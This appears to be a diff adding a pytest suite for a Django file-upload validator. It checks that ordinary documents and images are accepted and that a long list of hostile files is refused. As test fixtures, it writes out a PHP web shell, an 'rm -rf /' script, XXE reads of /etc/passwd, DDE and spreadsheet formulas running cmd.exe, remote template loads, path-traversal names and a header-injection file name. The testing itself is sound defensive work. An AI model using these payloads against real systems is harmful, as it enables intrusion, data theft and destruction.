@@ -1,0 +1,447 @@
+"""What is let in and what is not, on real files made here."""
+
+from __future__ import annotations
+
+import socket
+import struct
+import threading
+import zipfile
+from collections.abc import Callable, Iterator
+from io import BytesIO
+from pathlib import Path
+from typing import Any
+
+import pytest
+from django.core.exceptions import ValidationError
+from django.core.files.base import ContentFile
+from django.core.files.storage import default_storage
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db.models.fields.files import FieldFile
+
+from maillage.calls.models import Attachment
+from maillage.core.uploads import MAX_BYTES, Accepted, accept, random_name, serve
+from maillage.core.uploads.names import MAX_NAME, clean_name
+from tests.core import upload_files as made
+
+
+def _sent(content: bytes, name: str = "fichier.bin") -> Accepted:
+    return accept(SimpleUploadedFile(name, content))
+
+
+# --- What people send -----------------------------------------------------------------------------------
+
+HONEST: dict[str, tuple[str, Callable[[Path], bytes]]] = {
+    "typst": ("pdf", made.typst_pdf),
+    "hand-made pdf": ("pdf", lambda _: made.pdf()),
+    "pdf with a bookmark on opening": ("pdf", lambda _: made.pdf("<< /OpenAction [2 0 R /Fit] >>")),
+    "pdf with a web link": ("pdf", lambda _: made.pdf("<< /S /URI /URI (https://exemple.fr/) >>")),
+    "folded pdf": ("pdf", lambda _: made.folded_pdf("5 0 << /Type /Page >>")),
+    "png": ("png", lambda _: made.png()),
+    "png see-through": ("png", lambda _: made.png(mode="RGBA")),
+    "png palette": ("png", lambda _: made.png(mode="P")),
+    "png in sixteen bits": ("png", lambda _: made.png(mode="I;16")),
+    "png black and white": ("png", lambda _: made.png(mode="1")),
+    "jpeg": ("jpg", lambda _: made.jpg()),
+    "jpeg grey": ("jpg", lambda _: made.jpg(mode="L")),
+    "jpeg for print": ("jpg", lambda _: made.jpg(mode="CMYK")),
+    "jpeg progressive": ("jpg", lambda _: made.jpg(progressive=True)),
+    "jpeg of a telephone": ("jpg", lambda _: made.located_jpg()),
+    "docx": ("docx", lambda _: made.docx()),
+    "docx with a web link": ("docx", lambda _: made.docx(link="https://exemple.fr/link")),
+    "docx with a mail link": ("docx", lambda _: made.docx(link="mailto:ville@exemple.fr")),
+    "docx made from a template": (
+        "docx",
+        lambda _: made.with_relation(
+            made.docx(),
+            "word/_rels/settings.xml.rels",
+            "attachedTemplate",
+            "file:///C:\\Modeles\\Lettre.dotx",
+        ),
+    ),
+    "docx with page numbers": (
+        "docx",
+        lambda _: made.with_body(made.docx(), made.field(" PAGE ", r"\* MERGEFORMAT")),
+    ),
+    "docx with a link field": (
+        "docx",
+        lambda _: made.with_body(made.docx(), made.field(' HYPERLINK "https://exemple.fr/link" ')),
+    ),
+    "xlsx": ("xlsx", lambda _: made.xlsx()),
+    "xlsx with a link formula": (
+        "xlsx",
+        lambda _: made.xlsx(formula='=HYPERLINK("https://exemple.fr/","Site")'),
+    ),
+    "odt": ("odt", lambda _: made.odt()),
+    "odt with a link": (
+        "odt",
+        lambda _: made.odt(body='<text:a xlink:href="https://exemple.fr/">Site</text:a>'),
+    ),
+    "odt with a picture": (
+        "odt",
+        lambda _: made.odt(
+            body='<draw:image xlink:href="Pictures/a.png"/>', extra={"Pictures/a.png": made.png()}
+        ),
+    ),
+}
+
+
+@pytest.mark.parametrize("case", HONEST)
+def test_honest_files_are_kept(case: str, tmp_path: Path) -> None:
+    kind, make = HONEST[case]
+    kept = _sent(make(tmp_path), "Lettre du Département.bin")
+    assert (kept.kind, kept.name) == (kind, f"Lettre du Département.{kind}")
+    assert kept.size == len(kept.content) > 0
+
+
+def test_documents_are_kept_to_the_byte(tmp_path: Path) -> None:
+    for content in (made.typst_pdf(tmp_path), made.docx(), made.xlsx(), made.odt()):
+        assert _sent(content).content == content
+
+
+def test_a_picture_says_no_more_where_and_when_and_stands_upright() -> None:
+    from PIL import Image
+
+    sent = made.located_jpg()
+    assert b"Camille" in sent
+    kept = _sent(sent).content
+    assert b"Camille" not in kept
+    assert b"secret" not in kept
+    with Image.open(BytesIO(kept)) as picture:
+        assert not picture.getexif()
+        assert picture.size == (40, 60)
+
+
+def test_a_picture_is_brought_to_a_size_that_is_enough() -> None:
+    from PIL import Image
+
+    with Image.open(BytesIO(_sent(made.png((6000, 300))).content)) as picture:
+        assert picture.size == (5000, 250)
+
+
+@pytest.mark.parametrize("tail", [b"<script>alert(1)</script>", made.zipped({"a.exe": b"MZ"}), b"<?php x"])
+@pytest.mark.parametrize("picture", [made.png(), made.jpg()])
+def test_what_follows_a_picture_is_left_outside(picture: bytes, tail: bytes) -> None:
+    kept = _sent(picture + tail).content
+    assert tail not in kept
+    assert not zipfile.is_zipfile(BytesIO(kept))
+
+
+# --- What somebody could send ----------------------------------------------------------------------------
+
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
+LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
+ZEROS = b"\0" * 12_000_000
+MACRO_TYPES = b"application/vnd.ms-word.document.macroEnabled.main+xml"
+TEMPLATE_TYPES = b"wordprocessingml.template.main+xml"
+
+
+def _typed(types: bytes) -> bytes:
+    """A DOCX that declares another type for its main part."""
+    parts = made.parts_of(made.docx())
+    name = "[Content_Types].xml"
+    parts[name] = parts[name].replace(f"{made.WORD}.document.main+xml".encode(), types)
+    return made.zipped(parts)
+
+
+def _related(
+    kind: str, target: str, mode: str = "External", part: str = "word/_rels/document.xml.rels"
+) -> bytes:
+    return made.with_relation(made.docx(), part, kind, target, mode)
+
+
+def _overlapping() -> bytes:
+    """Two entries of the table that share the same bytes."""
+    content = made.zipped(
+        {**made.parts_of(made.docx()), "word/a.bin": ZEROS[:90_000], "word/b.bin": bytes(range(256)) * 9000}
+    )
+    with zipfile.ZipFile(BytesIO(content)) as archive:
+        first, second = archive.getinfo("word/a.bin"), archive.getinfo("word/b.bin")
+    old = second.header_offset.to_bytes(4, "little")
+    place = content.rindex(old)
+    return content[:place] + first.header_offset.to_bytes(4, "little") + content[place + 4 :]
+
+
+def _locked_zip() -> bytes:
+    content = bytearray(made.docx())
+    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        place = content.find(mark)
+        while place >= 0:
+            content[place + offset] |= 1
+            place = content.find(mark, place + 4)
+    return bytes(content)
+
+
+HOSTILE: dict[str, Callable[[Path], bytes]] = {
+    # not what we take, whatever the name says
+    "nothing": lambda _: b"",
+    "one byte": lambda _: b"%",
+    "svg with a script": lambda _: SVG,
+    "html": lambda _: b"<!doctype html><script>alert(1)</script>",
+    "html as gif": lambda _: b"GIF89a/*<html><script>*/",
+    "windows program": lambda _: b"MZ\x90\0" + b"\0" * 400,
+    "linux program": lambda _: b"\x7fELF" + b"\0" * 400,
+    "shell script": lambda _: b"#!/bin/sh\nrm -rf /\n",
+    "php": lambda _: b"<?php system($_GET['c']); ?>",
+    "old word": lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
+    "rtf": lambda _: b"{\\rtf1\\objdata 0105}",
+    "webp": lambda _: b"RIFF\0\0\0\0WEBPVP8 ",
+    "heic": lambda _: b"\0\0\0\x18ftypheic\0\0",
+    "null bytes": lambda _: b"\0" * 5000,
+    "one byte too many": lambda _: b"%PDF-1.7\n" + b"0" * (MAX_BYTES - 8),
+    # PDF
+    "html called pdf": lambda _: b"%PDF-<html><script>alert(1)</script>",
+    "pdf after html": lambda _: b"<html>" + made.pdf(),
+    "pdf cut": lambda folder: made.typst_pdf(folder)[:-200],
+    "pdf with a zip behind": lambda _: made.pdf(after=made.zipped({"a.exe": b"MZ"})),
+    "pdf around a zip": lambda _: made.pdf(after=made.zipped({"a": b"MZ"}) + b"\n%%EOF\n"),
+    "pdf with html behind": lambda _: made.pdf(after=b"\n<script>alert(1)</script>"),
+    "pdf script": lambda _: made.pdf("<< /S /JavaScript /JS (app.alert) >>"),
+    "pdf script spelt otherwise": lambda _: made.pdf("<< /S /J#61va#53cript /JS (app.alert) >>"),
+    "pdf script from a library": made.scripted_pdf,
+    "pdf script folded": lambda _: made.folded_pdf("5 0 << /S /JavaScript >>"),
+    "pdf script folded and spelt otherwise": lambda _: made.folded_pdf("5 0 << /S /#4aavaScript >>"),
+    "pdf script folded under another type": lambda _: made.folded_pdf("5 0 << /S /JavaScript >>", kind="/Metadata"),
+    "pdf script far inside": lambda _: made.folded_pdf("0" * (1024 * 1024 - 5) + "/JavaScript"),
+    "pdf folded twice": lambda _: made.folded_pdf("x", filters="[/ASCII85Decode /FlateDecode]"),
+    "pdf launches": lambda _: made.pdf("<< /S /Launch /F (cmd.exe) >>"),
+    "pdf carries a program": made.carrying_pdf,
+    "pdf sends a form": lambda _: made.pdf("<< /S /SubmitForm /F (http://exemple.fr) >>"),
+    "pdf goes to a share": lambda _: made.pdf("<< /S /GoToE /F (\\\\\\\\exemple\\\\a) >>"),
+    "pdf active form": lambda _: made.pdf("<< /AcroForm << /XFA 5 0 R >> >>"),
+    "pdf film": lambda _: made.pdf("<< /Subtype /RichMedia >>"),
+    "pdf locked": made.encrypted_pdf,
+    "pdf bomb": lambda _: made.folded_pdf("0" * 300_000_000),
+    # pictures
+    "png cut": lambda _: made.png((300, 300))[:400],
+    "jpeg cut": lambda _: made.jpg((300, 300))[:500],
+    "png signature alone": lambda _: b"\x89PNG\r\n\x1a\n",
+    "png signature then html": lambda _: b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
+    "jpeg signature then php": lambda _: b"\xff\xd8\xff\xe0<?php",
+    "png of a billion pixels": lambda _: made.huge_png(60_000, 60_000),
+    "png very wide": lambda _: made.huge_png(2_000_000, 1),
+    "png of no pixel": lambda _: made.huge_png(0, 0),
+    # archives
+    "any zip": lambda _: made.zipped({"a.txt": b"a"}),
+    "zip without a part": lambda _: b"PK\x03\x04" + made.zipped({}),
+    "docx bomb": lambda _: made.with_part(made.docx(), "word/media/a.bin", ZEROS),
+    "docx of many parts": lambda _: made.zipped({**made.parts_of(made.docx()), **{f"a{n}.xml": b"<a/>" for n in range(200)}}),
+    "docx that shares its bytes": lambda _: _overlapping(),
+    "docx in a docx": lambda _: made.with_part(made.docx(), "word/media/image9.png", made.docx()),
+    "docx with a workbook inside": lambda _: made.with_part(made.docx(), "word/embeddings/a.xlsx", made.xlsx()),
+    "docx with a program": lambda _: made.with_part(made.docx(), "word/media/image9.png", b"MZ\x90\0"),
+    "docx with a path out": lambda _: made.with_part(made.docx(), "../../etc/cron.d/a", b"x"),
+    "docx with a page": lambda _: made.with_part(made.docx(), "word/page.html", b"<script/>"),
+    "docx behind a program": lambda _: b"PK\x03\x04" + made.docx(),
+    "docx with a program behind": lambda _: made.docx() + b"MZ\x90\0",
+    "docx with a comment": lambda _: made.zipped(made.parts_of(made.docx()), comment=b"<script>"),
+    "docx cut": lambda _: made.docx()[:-100],
+    "docx locked": lambda _: _locked_zip(),
+    "docx folded otherwise": lambda _: made.zipped(made.parts_of(made.docx()), method=zipfile.ZIP_BZIP2),
+    # documents
+    "docm": lambda _: _typed(MACRO_TYPES),
+    "dotx": lambda _: _typed(made.WORD.encode().replace(b"wordprocessingml", TEMPLATE_TYPES)),
+    "docx with macros": lambda _: made.with_part(made.docx(), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
+    "docx with an entity": lambda _: made.with_part(made.docx(), "word/settings.xml", XXE),
+    "docx with an entity in utf-16": lambda _: made.with_part(
+        made.docx(), "word/settings.xml", XXE.decode().replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16")
+    ),
+    "docx with an entity under another name": lambda _: made.with_part(made.docx(), "word/media/a.emf", LAUGHS),
+    "docx with a template from outside": lambda _: _related(
+        "attachedTemplate", "http://exemple.fr/a.dotm", part="word/_rels/settings.xml.rels"
+    ),
+    "docx with a template on a share": lambda _: _related(
+        "attachedTemplate", "file:///\\\\exemple\\a.dotm", part="word/_rels/settings.xml.rels"
+    ),
+    "docx with a picture from outside": lambda _: _related("image", "http://exemple.fr/a.png"),
+    "docx with an object from outside": lambda _: _related("oleObject", "http://exemple.fr/a.html"),
+    "docx with a page poured in": lambda _: _related("aFChunk", "page.mht", "Internal"),
+    "docx with a link that runs": lambda _: made.docx(link="javascript:alert(1)"),
+    "docx with a link to a share": lambda _: made.docx(link="file://exemple/a"),
+    "docx with an exchange": lambda _: made.with_body(made.docx(), made.field("DDEAUTO c:\\\\cmd.exe")),
+    "docx with an exchange in pieces": lambda _: made.with_body(made.docx(), made.field("DD", "EAU", "TO cmd")),
+    "docx with an included file": lambda _: made.with_body(
+        made.docx(), '<w:p><w:fldSimple w:instr=" INCLUDETEXT http://exemple.fr "/></w:p>'
+    ),
+    "docx with a scripted drawing": lambda _: made.with_part(made.docx(), "word/media/a.svg", SVG),
+    "docx with broken xml": lambda _: made.with_part(made.docx(), "word/settings.xml", b"<a><b></a>"),
+    "xlsx with another workbook": lambda _: made.with_relation(
+        made.xlsx(), "xl/_rels/workbook.xml.rels", "externalLink", "externalLinks/externalLink1.xml", "Internal"
+    ),
+    "xlsx with a connection": lambda _: made.with_relation(
+        made.xlsx(), "xl/_rels/workbook.xml.rels", "connections", "connections.xml", "Internal"
+    ),
+    "xlsx that calls a service": lambda _: made.xlsx(formula='=_xlfn.WEBSERVICE("http://exemple.fr")'),
+    "xlsx that runs a command": lambda _: made.xlsx(formula="=cmd|'/C calc'!A0"),
+    "odt with macros": lambda _: made.odt(extra={"Basic/Standard/Module1.xml": b"<a/>"}),
+    "odt with a script": lambda _: made.odt(body="<office:script/>"),
+    "odt with an entity": lambda _: made.odt(extra={"styles.xml": XXE}),
+    "odt with a picture from outside": lambda _: made.odt(body='<draw:image xlink:href="http://exemple.fr/a.png"/>'),
+    "odt with a file of the reader": lambda _: made.odt(body='<text:section-source xlink:href="file:///etc/passwd"/>'),
+    "odt with a link that runs": lambda _: made.odt(body='<text:a xlink:href="vnd.sun.star.script:a">x</text:a>'),
+    "odt that is a drawing": lambda _: made.odt(mimetype="application/vnd.oasis.opendocument.graphics"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", HOSTILE)
+def test_hostile_files_are_refused_in_one_sentence(case: str, tmp_path: Path) -> None:
+    content = HOSTILE[case](tmp_path)
+    for name in ("projet.pdf", "photo.png", "lettre.docx"):
+        with pytest.raises(ValidationError) as refused:
+            _sent(content, name)
+    (sentence,) = refused.value.messages
+    assert "\u00a0: " in sentence
+    assert sentence.endswith(".")
+
+
+def test_enough_hostile_files() -> None:
+    assert len(HOSTILE) >= 60
+
+
+# --- Names ------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("given", "kept"),
+    [
+        ("Lettre du Département.pdf", "Lettre du Département.pdf"),
+        ("1.2 Lettre de M. Préfet.PDF", "1.2 Lettre de M. Préfet.pdf"),
+        ("facture.pdf.exe", "facture.pdf"),
+        ("facture.exe.pdf", "facture_exe.pdf"),
+        ("photo.php.jpg", "photo_php.pdf"),
+        ("projet.pdf.pdf", "projet.pdf"),
+        ("\u202egpj.exe", "gpj.pdf"),
+        ("photo\u202egnp.exe", "photognp.pdf"),
+        ("a\u200bb\u2066c\ufeff.pdf", "abc.pdf"),
+        ("a\0b.pdf", "ab.pdf"),
+        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie_ x.pdf"),
+        ("../../etc/passwd", "passwd.pdf"),
+        ("C:\\Windows\\a.pdf", "a.pdf"),
+        ('a"; b=<c>.pdf', "a_; b=_c_.pdf"),
+        (".pdf", "document.pdf"),
+        ("", "document.pdf"),
+        ("...", "document.pdf"),
+        ("\u202e", "document.pdf"),
+        ("E\u0301tat.pdf", "État.pdf"),
+    ],
+)
+def test_names_are_cleaned(given: str, kept: str) -> None:
+    assert clean_name(given, "pdf") == kept
+
+
+def test_a_long_name_keeps_its_extension() -> None:
+    name = clean_name("é" * 300 + ".pdf", "pdf")
+    assert len(name) == MAX_NAME
+    assert name.endswith("é.pdf")
+
+
+def test_random_names_say_nothing() -> None:
+    assert random_name("pdf") != random_name("pdf")
+    assert len(random_name("docx")) == 32 + len(".docx")
+
+
+# --- Kept and given back ------------------------------------------------------------------------------------
+
+
+def _kept(content: bytes) -> FieldFile:
+    attachment = Attachment()
+    attachment.file.save(random_name("pdf"), ContentFile(content), save=False)
+    return attachment.file
+
+
+def test_a_kept_file_is_downloaded_and_never_shown() -> None:
+    response = serve(_kept(made.pdf()), name="Étude\u202e « 1 ».pdf", kind="pdf")
+    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''%C3%89tude")
+    assert "%E2%80%AE" not in response["Content-Disposition"]
+    assert response["Content-Type"] == "application/pdf"
+    assert response["X-Content-Type-Options"] == "nosniff"
+    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
+    assert response["Cache-Control"] == "no-store"
+    assert response.content == made.pdf()
+
+
+def test_a_file_is_on_the_disk_before_it_has_its_name(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Every byte is flushed, then the name given, then the folder flushed: the order that survives a power cut."""
+    import os
+
+    done: list[str] = []
+    flush, rename = os.fsync, Path.replace
+
+    def flushed(handle: int) -> None:
+        done.append("folder" if os.path.isdir(f"/proc/self/fd/{handle}") else "file")  # noqa: PTH112
+        flush(handle)
+
+    def renamed(self: Path, target: Any) -> Path:
+        done.append("name")
+        return rename(self, target)
+
+    monkeypatch.setattr(os, "fsync", flushed)
+    monkeypatch.setattr(Path, "replace", renamed)
+    name = default_storage.save(f"candidatures/{random_name('pdf')}", ContentFile(b"x" * 100_000))
+    assert done[-3:] == ["file", "name", "folder"]
+    path = Path(default_storage.path(name))
+    assert path.read_bytes() == b"x" * 100_000
+    assert [found.name for found in path.parent.iterdir()] == [path.name]
+    assert path.stat().st_mode & 0o077 == 0
+
+
+def test_a_write_that_fails_leaves_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
+    class Cut(ContentFile):  # type: ignore[type-arg]
+        def chunks(self, chunk_size: int | None = None) -> Iterator[bytes]:
+            yield b"half"
+            raise OSError("no space left")
+
+    with pytest.raises(OSError, match="no space"):
+        default_storage.save(f"candidatures/{random_name('pdf')}", Cut(b"half"))
+    assert not list(Path(default_storage.path("candidatures")).iterdir())
+
+
+# --- An antivirus ---------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def clamd(settings: Any) -> Iterator[list[bytes]]:
+    """A server that speaks clamd's INSTREAM on a real socket, and finds what is called EICAR."""
+    seen: list[bytes] = []
+    server = socket.create_server(("127.0.0.1", 0))
+    settings.CLAMD = f"127.0.0.1:{server.getsockname()[1]}"
+
+    def exactly(line: socket.socket, count: int) -> bytes:
+        data = b""
+        while len(data) < count:
+            data += line.recv(count - len(data))
+        return data
+
+    def answer() -> None:
+        line, _ = server.accept()
+        with line:
+            assert exactly(line, 10) == b"zINSTREAM\0"
+            content = b""
+            while size := struct.unpack("!L", exactly(line, 4))[0]:
+                content += exactly(line, size)
+            seen.append(content)
+            line.sendall(b"stream: Eicar FOUND\0" if b"EICAR" in content else b"stream: OK\0")
+
+    served = threading.Thread(target=answer, daemon=True)
+    served.start()
+    yield seen
+    served.join(timeout=10)
+    server.close()
+
+
+def test_the_antivirus_sees_the_whole_file(clamd: list[bytes]) -> None:
+    content = made.pdf("(" + "a" * 200_000 + ")")
+    assert _sent(content).content == content
+    assert clamd == [content]
+
+
+def test_what_the_antivirus_refuses_is_refused(clamd: list[bytes]) -> None:
+    with pytest.raises(ValidationError, match="antivirus"):
+        _sent(made.pdf("(EICAR)"))
+
+
+def test_an_antivirus_that_does_not_answer_lets_nothing_in(settings: Any, tmp_path: Path) -> None:
+    for where in (str(tmp_path / "absent.ctl"), "127.0.0.1:9"):
+        settings.CLAMD = where
+        with pytest.raises(ValidationError, match="réessayez"):
+            _sent(made.pdf())
